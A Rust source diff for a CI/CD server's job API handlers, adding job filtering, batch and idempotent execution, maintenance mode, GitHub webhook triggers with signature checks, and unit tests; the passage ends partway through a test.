@@ -1,40 +1,104 @@
 use std::collections::HashMap;
 
 use axum::{
-    extract::{Path, Query, State},
-    http::{HeaderMap, StatusCode},
+    extract::{DefaultBodyLimit, Path, Query, State},
+    http::{header, HeaderMap, StatusCode},
     response::{IntoResponse, Response},
     Json,
 };
-use serde::Deserialize;
+use serde::{Deserialize, Serialize};
 
 use crate::{
-    credential::{Credential, CredentialType},
-    job::{GithubPayload, Job, TriggerType},
+    error::NomosError,
+    handlers::{base_url, maintenance_response, yaml_error_response, ApiError},
+    job::{GithubPayload, GithubTriggerParameter, Job, TriggerPlaceHolder, TriggerType},
     script::ScriptParameterType,
-    utils::is_signature_valid,
+    utils::{compute_signature, is_signature_valid, result_url},
     AppState,
 };
 
-#[derive(Deserialize)]
+#[derive(Deserialize, Default)]
 pub struct JobsQuery {
     #[serde(rename = "script-id")]
     script_id: Option<String>,
+    /// Case-insensitive substring of the job name.
+    q: Option<String>,
+    /// Only jobs having a trigger of this type, e.g. `github`.
+    trigger: Option<String>,
+    /// Only jobs with this tag.
+    tag: Option<String>,
+}
+
+impl JobsQuery {
+    pub(crate) fn matches(&self, job: &Job) -> bool {
+        if self
+            .script_id
+            .as_ref()
+            .is_some_and(|script_id| script_id != &job.script_id)
+        {
+            return false;
+        }
+        if self
+            .q
+            .as_ref()
+            .is_some_and(|q| !job.name.to_lowercase().contains(&q.to_lowercase()))
+        {
+            return false;
+        }
+        if self.tag.as_ref().is_some_and(|tag| !job.tags.contains(tag)) {
+            return false;
+        }
+        if let Some(trigger) = &self.trigger {
+            return job.triggers.iter().any(|t| t.type_name() == trigger);
+        }
+        true
+    }
 }
 
 pub async fn get_jobs(Query(query): Query<JobsQuery>) -> Response {
     let jobs = Job::get_all().unwrap_or_default();
-    let filtered_jobs: Vec<Job> = jobs
-        .into_iter()
-        .filter(|job| query.script_id.as_ref().map_or(true, |id| job.script_id == *id))
-        .collect();
+    let filtered_jobs: Vec<Job> = jobs.into_iter().filter(|job| query.matches(job)).collect();
 
     Json(filtered_jobs).into_response()
 }
 
-pub async fn get_job(Path(id): Path<String>) -> Response {
+pub async fn get_job(Path(id): Path<String>) -> Result<Json<Job>, ApiError> {
+    Ok(Json(Job::require(&id)?))
+}
+
+#[derive(Serialize)]
+pub struct JobStatus {
+    broken: bool,
+    reason: Option<String>,
+}
+
+pub async fn get_job_status(Path(id): Path<String>) -> Response {
+    match Job::get(&id) {
+        Ok(Some(job)) => {
+            let reason = job.broken_reason();
+            Json(JobStatus {
+                broken: reason.is_some(),
+                reason,
+            })
+            .into_response()
+        }
+        Ok(None) => StatusCode::NOT_FOUND.into_response(),
+        Err(e) => {
+            eprintln!("Failed to get job {}: {}", id, e);
+            StatusCode::INTERNAL_SERVER_ERROR.into_response()
+        }
+    }
+}
+
+pub async fn get_job_parameters(Path(id): Path<String>) -> Response {
     match Job::get(&id) {
-        Ok(Some(job)) => Json(job).into_response(),
+        Ok(Some(job)) => match job.effective_parameters(None) {
+            Ok(parameters) => Json(parameters).into_response(),
+            Err(e) => {
+                eprintln!("Failed to get parameters of job {}: {}", id, e);
+                (StatusCode::INTERNAL_SERVER_ERROR, e).into_response()
+            }
+        },
         Ok(None) => StatusCode::NOT_FOUND.into_response(),
         Err(e) => {
             eprintln!("Failed to get job {}: {}", id, e);
@@ -43,6 +107,31 @@ pub async fn get_job(Path(id): Path<String>) -> Response {
     }
 }
 
+/// The job as stored, for editing and posting back to `POST /api/jobs`.
+pub async fn get_job_yaml(Path(id): Path<String>) -> Result<Response, ApiError> {
+    let yaml = Job::get_source(&id)?.ok_or_else(|| NomosError::NotFound(format!("Job {:?}", id)))?;
+    Ok(([(header::CONTENT_TYPE, "application/yaml")], yaml).into_response())
+}
+
+/// The script of the job with the job defaults applied, as YAML.
+pub async fn get_job_resolved(Path(id): Path<String>) -> Result<Response, ApiError> {
+    let script = Job::require(&id)?.resolved_script(None).map_err(NomosError::from)?;
+    let yaml = serde_yaml::to_string(&script).map_err(NomosError::from)?;
+    Ok(([(header::CONTENT_TYPE, "application/yaml")], yaml).into_response())
+}
+
+/// What the steps of the job resolve to with the given parameters, nothing is executed.
+pub async fn preview_job(
+    Path(id): Path<String>,
+    parameters: Option<Json<HashMap<String, ScriptParameterType>>>,
+) -> Result<Response, ApiError> {
+    let parameters = parameters.map(|Json(parameters)| parameters).unwrap_or_default();
+    let steps = Job::require(&id)?
+        .preview(None, parameters)
+        .map_err(NomosError::Validation)?;
+    Ok(Json(steps).into_response())
+}
+
 pub async fn create_job(headers: HeaderMap, body: String) -> Response {
     let content_type = match headers.get("content-type") {
         Some(ct) => ct.to_str().unwrap_or(""),
@@ -63,24 +152,83 @@ pub async fn create_job(headers: HeaderMap, body: String) -> Response {
         },
         Err(e) => {
             eprintln!("Failed to parse job YAML: {}", e);
-            (StatusCode::BAD_REQUEST, e.to_string()).into_response()
+            yaml_error_response(e)
         }
     }
 }
 
+#[derive(Deserialize, Default)]
+pub struct ExecuteJobQuery {
+    force: Option<bool>,
+    /// Log the commands without running them. The result is persisted, unlike `/dry-run`.
+    dry: Option<bool>,
+}
+
+/// `X-Idempotency-Key`, falling back to GitHub's `X-GitHub-Delivery`.
+fn idempotency_key(headers: &HeaderMap) -> Option<&str> {
+    headers
+        .get("x-idempotency-key")
+        .or_else(|| headers.get("x-github-delivery"))
+        .and_then(|v| v.to_str().ok())
+        .filter(|v| !v.is_empty())
+}
+
 pub async fn execute_job(
     State(state): State<AppState>,
     Path(id): Path<String>,
-    Json(parameters): Json<HashMap<String, ScriptParameterType>>,
+    Query(query): Query<ExecuteJobQuery>,
+    headers: HeaderMap,
+    body: String,
 ) -> Response {
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+
+    let content_type = headers
+        .get("content-type")
+        .and_then(|ct| ct.to_str().ok())
+        .unwrap_or("");
+    // A YAML parameters file may be uploaded instead of the JSON body.
+    let parameters: HashMap<String, ScriptParameterType> = if content_type.starts_with("application/yaml") {
+        match serde_yaml::from_str(&body) {
+            Ok(parameters) => parameters,
+            Err(e) => return yaml_error_response(e),
+        }
+    } else if content_type.starts_with("application/json") {
+        match serde_json::from_str(&body) {
+            Ok(parameters) => parameters,
+            Err(e) => return (StatusCode::BAD_REQUEST, format!("Failed to parse parameters: {}", e)).into_response(),
+        }
+    } else {
+        return StatusCode::UNSUPPORTED_MEDIA_TYPE.into_response();
+    };
+
     match Job::get(&id) {
-        Ok(Some(job)) => match job.execute(&state.job_executor, parameters).await {
-            Ok(job_result_id) => job_result_id.into_response(),
-            Err(e) => {
-                eprintln!("Failed to execute job {}: {}", id, e);
-                StatusCode::INTERNAL_SERVER_ERROR.into_response()
+        Ok(Some(job)) if !job.enabled && !query.force.unwrap_or(false) => (
+            StatusCode::CONFLICT,
+            format!("Job {} is disabled. Use ?force=true to execute it anyway", id),
+        )
+            .into_response(),
+        Ok(Some(job)) => {
+            if let Err(e) = job.validate_provided_parameters(None, &parameters) {
+                return ApiError(e).into_response();
             }
-        },
+            let result = if query.dry.unwrap_or(false) {
+                job.dry_execute(&state.job_executor, parameters).await
+            } else {
+                state
+                    .job_executor
+                    .execute_idempotent(&job, parameters, idempotency_key(&headers))
+                    .await
+            };
+            match result {
+                Ok(job_result_id) => job_result_id.into_response(),
+                Err(e) => {
+                    eprintln!("Failed to execute job {}: {}", id, e);
+                    StatusCode::INTERNAL_SERVER_ERROR.into_response()
+                }
+            }
+        }
         Ok(None) => StatusCode::NOT_FOUND.into_response(),
         Err(e) => {
             eprintln!("Failed to get job {}: {}", id, e);
@@ -89,24 +237,90 @@ pub async fn execute_job(
     }
 }
 
-pub async fn delete_job(Path(id): Path<String>) -> Response {
-    match Job::get(&id) {
-        Ok(Some(job)) => match job.delete() {
-            Ok(_) => StatusCode::NO_CONTENT.into_response(),
+#[derive(Deserialize, Serialize)]
+pub struct BatchExecution {
+    pub job_id: String,
+    #[serde(default)]
+    pub parameters: HashMap<String, ScriptParameterType>,
+}
+
+/// Either the id of the started result or why the job didn't start.
+#[derive(Deserialize, Serialize, Debug, PartialEq)]
+pub struct BatchExecutionResult {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub job_result_id: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub error: Option<String>,
+}
+
+/// Starts every job of the batch at once, the executor queues runs beyond `NOMOS_MAX_RUNNING_JOBS`. A job that
+/// can't start is reported in its entry and doesn't stop the others.
+pub async fn execute_batch(State(state): State<AppState>, Json(batch): Json<Vec<BatchExecution>>) -> Response {
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+    let mut job_ids = std::collections::HashSet::new();
+    if let Some(execution) = batch
+        .iter()
+        .find(|execution| !job_ids.insert(execution.job_id.as_str()))
+    {
+        return (
+            StatusCode::BAD_REQUEST,
+            format!("Job {} is in the batch more than once", execution.job_id),
+        )
+            .into_response();
+    }
+
+    let mut executions = tokio::task::JoinSet::new();
+    for BatchExecution { job_id, parameters } in batch {
+        let job_executor = state.job_executor.clone();
+        executions.spawn(async move {
+            let result = match Job::require(&job_id) {
+                Ok(job) if !job.enabled => Err(format!("Job {} is disabled", job_id)),
+                Ok(job) => job.execute(&job_executor, parameters).await,
+                Err(e) => Err(e.to_string()),
+            };
+            (job_id, result)
+        });
+    }
+
+    let mut results = std::collections::BTreeMap::new();
+    while let Some(execution) = executions.join_next().await {
+        let (job_id, result) = match execution {
+            Ok(execution) => execution,
             Err(e) => {
-                eprintln!("Failed to delete job {}: {}", id, e);
-                StatusCode::INTERNAL_SERVER_ERROR.into_response()
+                eprintln!("Failed to execute batch entry: {}", e);
+                return StatusCode::INTERNAL_SERVER_ERROR.into_response();
             }
-        },
-        Ok(None) => StatusCode::NOT_FOUND.into_response(),
-        Err(e) => {
-            eprintln!("Failed to get job {}: {}", id, e);
-            StatusCode::INTERNAL_SERVER_ERROR.into_response()
-        }
+        };
+        let result = match result {
+            Ok(job_result_id) => BatchExecutionResult {
+                job_result_id: Some(job_result_id),
+                error: None,
+            },
+            Err(e) => {
+                eprintln!("Failed to execute job {}: {}", job_id, e);
+                BatchExecutionResult {
+                    job_result_id: None,
+                    error: Some(e),
+                }
+            }
+        };
+        results.insert(job_id, result);
     }
+    Json(results).into_response()
 }
 
-pub async fn dry_run_job(headers: HeaderMap, body: String) -> Response {
+pub async fn delete_job(Path(id): Path<String>) -> Result<StatusCode, ApiError> {
+    Job::require(&id)?.delete()?;
+    Ok(StatusCode::NO_CONTENT)
+}
+
+pub async fn dry_run_job(State(state): State<AppState>, headers: HeaderMap, body: String) -> Response {
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+
     let content_type = match headers.get("content-type") {
         Some(ct) => ct.to_str().unwrap_or(""),
         None => return (StatusCode::BAD_REQUEST, "Empty content-type").into_response(),
@@ -117,104 +331,1424 @@ pub async fn dry_run_job(headers: HeaderMap, body: String) -> Response {
     }
 
     match serde_yaml::from_str::<Job>(&body) {
-        Ok(job) => match job.validate(None, Default::default()).await {
-            Ok(_) => StatusCode::OK.into_response(),
+        Ok(job) => {
+            let errors = job.validate_all(None).await;
+            if errors.is_empty() {
+                StatusCode::OK.into_response()
+            } else {
+                (StatusCode::BAD_REQUEST, Json(errors)).into_response()
+            }
+        }
+        Err(e) => {
+            eprintln!("Failed to parse job YAML: {}", e);
+            yaml_error_response(e)
+        }
+    }
+}
+
+pub async fn dry_run_saved_job(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    Json(parameters): Json<HashMap<String, ScriptParameterType>>,
+) -> Response {
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+
+    match Job::get(&id) {
+        Ok(Some(job)) => match job.dry_run(None, parameters).await {
+            Ok(result) => {
+                let status = if result.error.is_none() {
+                    StatusCode::OK
+                } else {
+                    StatusCode::BAD_REQUEST
+                };
+                (status, Json(result)).into_response()
+            }
             Err(e) => (StatusCode::BAD_REQUEST, e).into_response(),
         },
+        Ok(None) => StatusCode::NOT_FOUND.into_response(),
         Err(e) => {
-            eprintln!("Failed to parse job YAML: {}", e);
-            (StatusCode::BAD_REQUEST, e.to_string()).into_response()
+            eprintln!("Failed to get job {}: {}", id, e);
+            StatusCode::INTERNAL_SERVER_ERROR.into_response()
         }
     }
 }
 
+/// The default body limit of axum. GitHub sends payloads of up to 25 MB, e.g. for large pushes.
+const DEFAULT_WEBHOOK_MAX_BODY_SIZE: usize = 2 * 1024 * 1024;
+
+/// Body limit of the webhook routes, `NOMOS_WEBHOOK_MAX_BODY_SIZE` bytes. Larger payloads are rejected with 413
+/// before they are read into memory.
+pub fn webhook_body_limit() -> DefaultBodyLimit {
+    let size = std::env::var("NOMOS_WEBHOOK_MAX_BODY_SIZE")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(DEFAULT_WEBHOOK_MAX_BODY_SIZE);
+    DefaultBodyLimit::max(size)
+}
+
+/// Parses a payload whose signature was checked. The details of a parse error are only logged, the sender gets
+/// `invalid_github_payload`.
+fn parse_github_payload(body: &str) -> Option<GithubPayload> {
+    serde_json::from_str(body)
+        .inspect_err(|e| eprintln!("Failed to parse GitHub payload: {}", e))
+        .ok()
+}
+
+fn invalid_github_payload() -> Response {
+    (StatusCode::BAD_REQUEST, "Invalid GitHub payload").into_response()
+}
+
+/// Answers 202 once the matching jobs are known, their runs are started in the background. A delivery that started
+/// runs within `WEBHOOK_DELIVERY_WINDOW` is acknowledged without starting anything. The payload is only parsed once it
+/// is signed with the secret of a trigger.
 pub async fn job_webhook_trigger(State(state): State<AppState>, headers: HeaderMap, body: String) -> Response {
-    match Job::get_all() {
-        Ok(jobs) => {
-            for job in jobs {
-                for trigger in job.triggers.iter() {
-                    match trigger {
-                        TriggerType::Github(val) => {
-                            let signature = headers.get("x-hub-signature-256");
-                            let github_event = headers.get("x-github-event");
-
-                            if signature.is_none() || github_event.is_none() {
-                                eprintln!("Signature or Event not found in headers");
-                                continue;
-                            }
-
-                            let payload = match serde_json::from_str::<GithubPayload>(&body) {
-                                Ok(p) => p,
-                                Err(e) => {
-                                    eprintln!("Failed to parse GitHub payload: {}", e);
-                                    continue;
-                                }
-                            };
-
-                            match Credential::get(val.secret_credential_id.as_str(), None) {
-                                Ok(Some(credential)) => {
-                                    let text_credential = match credential.value {
-                                        CredentialType::Text(val) => Some(val),
-                                        _ => {
-                                            eprintln!("Credential is not Text: {}", val.secret_credential_id);
-                                            None
-                                        }
-                                    };
-
-                                    if let Some(text_credential) = text_credential {
-                                        match is_signature_valid(
-                                            &body,
-                                            signature.unwrap().to_str().unwrap(),
-                                            &text_credential.value,
-                                        ) {
-                                            Ok(is_valid) => {
-                                                if !is_valid {
-                                                    eprintln!("Invalid signature");
-                                                    continue;
-                                                }
-
-                                                if payload.repository.full_name != val.url {
-                                                    eprintln!("Repository does not match");
-                                                    continue;
-                                                }
-
-                                                if !val
-                                                    .events
-                                                    .iter()
-                                                    .any(|x| x == github_event.unwrap().to_str().unwrap())
-                                                {
-                                                    eprintln!("Event does not match");
-                                                    continue;
-                                                }
-
-                                                let mut params = HashMap::new();
-                                                params.insert(
-                                                    "github_payload".to_string(),
-                                                    ScriptParameterType::String(body.clone()),
-                                                );
-
-                                                match job.execute(&state.job_executor, params).await {
-                                                    Ok(result) => eprintln!("Job started: {}", result),
-                                                    Err(e) => eprintln!("Failed to execute job: {}", e),
-                                                }
-                                            }
-                                            Err(e) => eprintln!("Failed to validate signature: {}", e),
-                                        }
-                                    }
-                                }
-                                Ok(None) => eprintln!("Credential not found: {}", val.secret_credential_id),
-                                Err(e) => eprintln!("Failed to get credential: {}", e),
-                            }
-                        }
-                        TriggerType::Manual(_) => {}
-                    }
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+    let signature = header_value(&headers, "x-hub-signature-256");
+    let github_event = header_value(&headers, "x-github-event");
+    let (Some(signature), Some(github_event)) = (signature, github_event) else {
+        return (StatusCode::BAD_REQUEST, "Signature or Event not found in headers").into_response();
+    };
+
+    let jobs = match Job::get_all() {
+        Ok(jobs) => jobs,
+        Err(e) => {
+            eprintln!("Failed to get jobs for webhook trigger: {}", e);
+            return StatusCode::INTERNAL_SERVER_ERROR.into_response();
+        }
+    };
+    let mut signed = Vec::new();
+    for job in jobs {
+        if !job.enabled {
+            eprintln!("Skipping disabled job {}", job.id);
+            continue;
+        }
+        if let Some(reason) = job.broken_reason() {
+            eprintln!("Skipping broken job {}: {}", job.id, reason);
+            continue;
+        }
+        if let Some(until) = state.job_executor.circuit_breaker.open_until(&job.id) {
+            eprintln!("Skipping job {} after repeated failures until {}", job.id, until);
+            continue;
+        }
+        for trigger in job.triggers.iter() {
+            let TriggerType::Github(val) = trigger else {
+                continue;
+            };
+            match is_github_signature_valid(val, &body, signature) {
+                Ok(true) => signed.push((job.clone(), val.clone())),
+                Ok(false) => eprintln!("Invalid signature"),
+                Err(e) => eprintln!("Failed to validate signature: {}", e),
+            }
+        }
+    }
+    if signed.is_empty() {
+        return StatusCode::ACCEPTED.into_response();
+    }
+    let Some(payload) = parse_github_payload(&body) else {
+        return invalid_github_payload();
+    };
+
+    let mut runs = Vec::new();
+    for (job, trigger) in signed {
+        if payload.repository_name() != Some(trigger.url.as_str()) {
+            eprintln!("Repository does not match");
+            continue;
+        }
+        if !trigger.events.iter().any(|x| x == github_event) {
+            eprintln!("Event does not match");
+            continue;
+        }
+        let mut params = payload.to_parameters(github_event);
+        params.insert("github_payload".to_string(), ScriptParameterType::String(body.clone()));
+        match trigger.header_parameters(|name| header_value(&headers, name)) {
+            Ok(headers) => {
+                for (name, value) in headers {
+                    params.entry(name).or_insert(value);
                 }
             }
-            StatusCode::OK.into_response()
+            Err(e) => {
+                eprintln!("Skipping job {}: {}", job.id, e);
+                continue;
+            }
         }
+        runs.push((job, params));
+    }
+    if runs.is_empty() {
+        return StatusCode::ACCEPTED.into_response();
+    }
+
+    // Recorded right before the runs are scheduled, so a rejected delivery can still be redelivered
+    if let Some(delivery) = header_value(&headers, "x-github-delivery").filter(|v| !v.is_empty()) {
+        if !state.webhook_deliveries.first_seen(delivery) {
+            eprintln!("Skipping duplicate delivery {}", delivery);
+            return StatusCode::ACCEPTED.into_response();
+        }
+    }
+
+    let idempotency_key = idempotency_key(&headers).map(str::to_string);
+    let base = base_url(&state, &headers);
+    tokio::spawn(async move {
+        for (job, params) in runs {
+            match state
+                .job_executor
+                .execute_idempotent(&job, params, idempotency_key.as_deref())
+                .await
+            {
+                Ok(result) => match &base {
+                    Some(base) => eprintln!("Job started: {}", result_url(base, &result)),
+                    None => eprintln!("Job started: {}", result),
+                },
+                Err(e) => eprintln!("Failed to execute job: {}", e),
+            }
+        }
+    });
+    StatusCode::ACCEPTED.into_response()
+}
+
+fn header_value<'a>(headers: &'a HeaderMap, name: &str) -> Option<&'a str> {
+    headers.get(name).and_then(|value| value.to_str().ok())
+}
+
+/// Checks a webhook signature against the secret of a GitHub trigger.
+fn is_github_signature_valid(trigger: &GithubTriggerParameter, body: &str, signature: &str) -> Result<bool, String> {
+    is_signature_valid(body, signature, &trigger.secret()?)
+}
+
+#[derive(Deserialize)]
+pub struct WebhookDebugRequest {
+    /// Payload exactly as sent by GitHub.
+    body: String,
+    /// Value of the `X-Hub-Signature-256` header.
+    signature: String,
+    credential_id: String,
+}
+
+#[derive(Serialize, Deserialize, Debug)]
+pub struct WebhookDebugResponse {
+    valid: bool,
+    /// Signature computed with the secret of the credential, to compare against the one GitHub sent.
+    expected_signature: String,
+}
+
+/// Checks a webhook signature the same way the webhook triggers do, to diagnose misconfigured secrets. Like
+/// `secret_credential_id` of a trigger, the credential id may be `env:NAME`.
+pub async fn debug_webhook_signature(
+    Json(request): Json<WebhookDebugRequest>,
+) -> Result<Json<WebhookDebugResponse>, ApiError> {
+    let trigger = GithubTriggerParameter {
+        secret_credential_id: request.credential_id,
+        ..GithubTriggerParameter::get_place_holder()
+    };
+    let secret = trigger.secret()?;
+    let valid = is_signature_valid(&request.body, &request.signature, &secret).map_err(NomosError::from)?;
+    Ok(Json(WebhookDebugResponse {
+        valid,
+        expected_signature: compute_signature(&request.body, &secret).map_err(NomosError::from)?,
+    }))
+}
+
+/// Webhook for a single job. Unlike `job_webhook_trigger`, the signature is only checked against the triggers of
+/// this job, so each job can have its own webhook URL.
+pub async fn job_targeted_webhook_trigger(
+    State(state): State<AppState>,
+    Path(id): Path<String>,
+    headers: HeaderMap,
+    body: String,
+) -> Response {
+    if state.maintenance.is_enabled() {
+        return maintenance_response();
+    }
+
+    let signature = headers.get("x-hub-signature-256").and_then(|v| v.to_str().ok());
+    let github_event = headers.get("x-github-event").and_then(|v| v.to_str().ok());
+    let (Some(signature), Some(github_event)) = (signature, github_event) else {
+        return (StatusCode::BAD_REQUEST, "Signature or Event not found in headers").into_response();
+    };
+
+    let job = match Job::get(&id) {
+        Ok(Some(job)) => job,
+        Ok(None) => return StatusCode::NOT_FOUND.into_response(),
         Err(e) => {
-            eprintln!("Failed to get jobs for webhook trigger: {}", e);
+            eprintln!("Failed to get job {}: {}", id, e);
+            return StatusCode::INTERNAL_SERVER_ERROR.into_response();
+        }
+    };
+
+    let trigger = job.triggers.iter().find_map(|trigger| match trigger {
+        TriggerType::Github(val) => match is_github_signature_valid(val, &body, signature) {
+            Ok(true) => Some(val),
+            Ok(false) => None,
+            Err(e) => {
+                eprintln!("Failed to validate signature: {}", e);
+                None
+            }
+        },
+        TriggerType::Manual(_) => None,
+    });
+    let Some(trigger) = trigger else {
+        return (StatusCode::UNAUTHORIZED, "Invalid signature").into_response();
+    };
+
+    if !job.enabled {
+        return (StatusCode::CONFLICT, format!("Job {} is disabled", id)).into_response();
+    }
+    if let Some(reason) = job.broken_reason() {
+        return (StatusCode::CONFLICT, reason).into_response();
+    }
+    if let Some(until) = state.job_executor.circuit_breaker.open_until(&job.id) {
+        return (
+            StatusCode::CONFLICT,
+            format!(
+                "Job {} failed repeatedly, webhook triggers are skipped until {}",
+                id, until
+            ),
+        )
+            .into_response();
+    }
+
+    let Some(payload) = parse_github_payload(&body) else {
+        return invalid_github_payload();
+    };
+    if payload.repository_name() != Some(trigger.url.as_str()) {
+        return (StatusCode::OK, "Repository does not match").into_response();
+    }
+    if !trigger.events.iter().any(|x| x == github_event) {
+        return (StatusCode::OK, "Event does not match").into_response();
+    }
+
+    let mut params = payload.to_parameters(github_event);
+    params.insert("github_payload".to_string(), ScriptParameterType::String(body));
+    match trigger.header_parameters(|name| header_value(&headers, name)) {
+        Ok(headers) => {
+            for (name, value) in headers {
+                params.entry(name).or_insert(value);
+            }
+        }
+        Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
+    }
+    match state
+        .job_executor
+        .execute_idempotent(&job, params, idempotency_key(&headers))
+        .await
+    {
+        Ok(result) => {
+            match base_url(&state, &headers) {
+                Some(base) => eprintln!("Job started: {}", result_url(&base, &result)),
+                None => eprintln!("Job started: {}", result),
+            }
+            result.into_response()
+        }
+        Err(e) => {
+            eprintln!("Failed to execute job {}: {}", id, e);
             StatusCode::INTERNAL_SERVER_ERROR.into_response()
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use std::sync::Arc;
+
+    use axum::http::HeaderValue;
+    use hmac::{Hmac, Mac};
+    use sha2::Sha256;
+
+    use super::*;
+    use crate::{
+        credential::{Credential, CredentialType, TextCredentialParameter},
+        handlers::{set_maintenance, MaintenanceStatus, WebhookDeliveries},
+        job::{
+            default_job_results_location, default_jobs_location, CircuitBreaker, GithubTriggerParameter, JobExecutor,
+            JobParameterDefinition, JobResult, ManualTriggerParameter,
+        },
+        maintenance::Maintenance,
+        script::{
+            models::{Script, ScriptStatus, ScriptStep},
+            types::{BashScript, ScriptType},
+            ScriptParameter,
+        },
+    };
+
+    async fn create_job(id: &str, enabled: bool, triggers: Vec<TriggerType>) -> Job {
+        let script = Script {
+            id: format!("{}-script", id),
+            name: "Test Script".to_string(),
+            parameters: vec![],
+            steps: vec![ScriptStep {
+                name: "Test Step".to_string(),
+                values: vec![ScriptType::Bash(BashScript {
+                    code: "echo test".to_string(),
+                    ..Default::default()
+                })],
+                ..Default::default()
+            }],
+        };
+        script.sync(None).unwrap();
+
+        let job = Job {
+            id: id.to_string(),
+            name: "Test Job".to_string(),
+            triggers,
+            script_id: script.id.clone(),
+            enabled,
+            ..Default::default()
+        };
+        job.sync(None).await.unwrap();
+        job
+    }
+
+    /// The maintenance flag is kept in the returned directory, which is removed when dropped.
+    fn app_state() -> (AppState, tempfile::TempDir) {
+        let directory = tempfile::tempdir().unwrap();
+        let state = AppState {
+            job_executor: Arc::new(JobExecutor::new()),
+            base_url: None,
+            maintenance: Arc::new(Maintenance::new(directory.path().join("maintenance"))),
+            request_log: Default::default(),
+            webhook_deliveries: Default::default(),
+        };
+        (state, directory)
+    }
+
+    fn job_named(name: &str, triggers: Vec<TriggerType>) -> Job {
+        Job {
+            id: name.to_lowercase(),
+            name: name.to_string(),
+            triggers,
+            script_id: "script".to_string(),
+            ..Default::default()
+        }
+    }
+
+    fn github_trigger() -> TriggerType {
+        TriggerType::Github(GithubTriggerParameter {
+            branch: "main".to_string(),
+            events: vec!["push".to_string()],
+            // Not checked when the job is saved
+            secret_credential_id: "env:NOMOS_TEST_WEBHOOK_SECRET".to_string(),
+            url: "https://github.com/nomos-cicd/nomos-rust".to_string(),
+            headers: HashMap::new(),
+        })
+    }
+
+    #[test]
+    fn test_jobs_query_name() {
+        let job = job_named("Deploy Backend", vec![]);
+
+        let query = |q: &str| JobsQuery {
+            q: Some(q.to_string()),
+            ..Default::default()
+        };
+        assert!(JobsQuery::default().matches(&job));
+        assert!(query("backend").matches(&job));
+        assert!(query("DEPLOY").matches(&job));
+        assert!(!query("frontend").matches(&job));
+    }
+
+    #[test]
+    fn test_jobs_query_trigger() {
+        let github_job = job_named("Deploy Backend", vec![github_trigger()]);
+        let manual_job = job_named("Deploy Frontend", vec![TriggerType::Manual(ManualTriggerParameter {})]);
+
+        let query = JobsQuery {
+            trigger: Some("github".to_string()),
+            ..Default::default()
+        };
+        assert!(query.matches(&github_job));
+        assert!(!query.matches(&manual_job));
+
+        let query = JobsQuery {
+            q: Some("frontend".to_string()),
+            trigger: Some("manual".to_string()),
+            ..Default::default()
+        };
+        assert!(!query.matches(&github_job));
+        assert!(query.matches(&manual_job));
+
+        let query = JobsQuery {
+            q: Some("frontend".to_string()),
+            trigger: Some("github".to_string()),
+            ..Default::default()
+        };
+        assert!(!query.matches(&github_job));
+        assert!(!query.matches(&manual_job));
+    }
+
+    #[tokio::test]
+    async fn test_jobs_query_tag() {
+        let mut prod = create_job("api-tagged-prod-job", true, vec![]).await;
+        prod.tags = vec!["prod".to_string(), "backend".to_string()];
+        prod.sync(None).await.unwrap();
+        let mut staging = create_job("api-tagged-staging-job", true, vec![]).await;
+        staging.tags = vec!["staging".to_string()];
+        staging.sync(None).await.unwrap();
+
+        async fn ids(tag: &str) -> Vec<String> {
+            let query = JobsQuery {
+                tag: Some(tag.to_string()),
+                ..Default::default()
+            };
+            let response = get_jobs(Query(query)).await;
+            let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+            serde_json::from_slice::<Vec<Job>>(&body)
+                .unwrap()
+                .into_iter()
+                .map(|job| job.id)
+                .filter(|id| id.starts_with("api-tagged-"))
+                .collect()
+        }
+        assert_eq!(ids("prod").await, vec!["api-tagged-prod-job"]);
+        assert_eq!(ids("backend").await, vec!["api-tagged-prod-job"]);
+        assert_eq!(ids("staging").await, vec!["api-tagged-staging-job"]);
+        assert!(ids("missing-tag").await.is_empty());
+        // Tags match exactly
+        assert!(ids("pro").await.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_get_missing_job() {
+        assert!(matches!(Job::require("api-missing-job"), Err(NomosError::NotFound(_))));
+
+        let response = get_job(Path("api-missing-job".to_string())).await.into_response();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+        let response = delete_job(Path("api-missing-job".to_string())).await.into_response();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_get_broken_job() {
+        let path = default_jobs_location().unwrap().join("api-broken-job.yml");
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, "id: [").unwrap();
+
+        let error = Job::get("api-broken-job").unwrap_err();
+        assert!(error.to_string().contains("api-broken-job.yml"), "{}", error);
+        // A broken file on the server is not the client's fault
+        let response = get_job(Path("api-broken-job".to_string())).await.into_response();
+        assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
+        std::fs::remove_file(path).unwrap();
+    }
+
+    fn content_type(content_type: &'static str) -> HeaderMap {
+        let mut headers = HeaderMap::new();
+        headers.insert("content-type", HeaderValue::from_static(content_type));
+        headers
+    }
+
+    #[tokio::test]
+    async fn test_maintenance_blocks_executions() {
+        let job = create_job("api-maintenance-job", true, vec![github_trigger()]).await;
+        let (state, _maintenance) = app_state();
+        let execute = || {
+            execute_job(
+                State(state.clone()),
+                Path(job.id.clone()),
+                Query(ExecuteJobQuery::default()),
+                content_type("application/json"),
+                "{}".to_string(),
+            )
+        };
+
+        set_maintenance(State(state.clone()), Json(MaintenanceStatus { enabled: true })).await;
+        assert_eq!(execute().await.status(), StatusCode::SERVICE_UNAVAILABLE);
+        let response = dry_run_saved_job(State(state.clone()), Path(job.id.clone()), Json(HashMap::new())).await;
+        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
+        let response = job_targeted_webhook_trigger(
+            State(state.clone()),
+            Path(job.id.clone()),
+            HeaderMap::new(),
+            String::new(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
+        // Reads are not affected
